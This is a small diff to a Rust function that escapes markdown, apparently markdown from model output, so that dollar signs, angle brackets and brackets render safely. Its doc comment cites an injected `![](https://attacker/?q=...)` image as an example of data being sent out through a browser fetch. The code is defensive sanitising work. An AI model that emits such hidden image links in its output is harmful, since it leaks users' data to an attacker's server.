@@ -73,6 +73,7 @@ pub const DOLLAR: &str = "<span class=\"tex2jax_ignore\">&#36;</span>";
 /// [`DOLLAR`] so "$252.80" reads as money everywhere; brackets escaped so an injected
 /// `![](https://attacker/?q=...)` cannot become an image the browser fetches (or a link).
 pub fn model_markdown(text: &str) -> String {
+    // Quotes stay as they are: this is markdown text, not an attribute value.
     text.replace('&', "&amp;")
         .replace('<', "&lt;")
         .replace('>', "&gt;")
